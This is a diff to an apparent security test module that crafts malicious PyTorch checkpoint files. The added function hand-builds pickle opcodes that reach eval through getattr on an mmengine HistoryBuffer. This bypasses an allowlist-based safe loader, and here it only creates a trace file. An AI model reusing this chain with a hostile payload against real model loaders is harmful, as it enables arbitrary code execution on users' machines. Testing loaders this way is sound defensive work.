@@ -8,6 +8,7 @@ found out, whether it raises afterwards or not.
 import functools
 import os
 import pickle
+import zipfile
 
 import numpy as np
 import torch
@@ -98,3 +99,32 @@ def write_in_tensor(path, payload):
 
 
 WRITERS = (write_zip, write_legacy, write_plain, write_in_tensor)
+
+
+def write_setstate(path, trace):
+    """By real ``getattr`` to ``eval``, called as a method of an instance.
+
+    OneDL's mmengine allows ``getattr`` beside its ``HistoryBuffer``.
+    """
+
+    def text(content):
+        data = content.encode()
+        return b'X' + len(data).to_bytes(4, 'little') + data
+
+    getter = b'c__builtin__\ngetattr\n'
+    builtins = getter + getter + text('__self__') + b'\x86R'
+    pickled = (
+        b'\x80\x02cmmengine.logging.history_buffer\nHistoryBuffer\n)\x81}'
+        + text('__setstate__')
+        + (getter + builtins + text('eval') + b'\x86R')
+        + b'sb'
+        + text(f'open({str(trace)!r}, "w").close()')
+        + b'b.'
+    )
+    torch.save({}, path)
+    with zipfile.ZipFile(path) as archive:
+        files = {name: archive.read(name) for name in archive.namelist()}
+    with zipfile.ZipFile(path, 'w') as archive:
+        for name, content in files.items():
+            is_pickle = name.endswith('data.pkl')
+            archive.writestr(name, pickled if is_pickle else content)
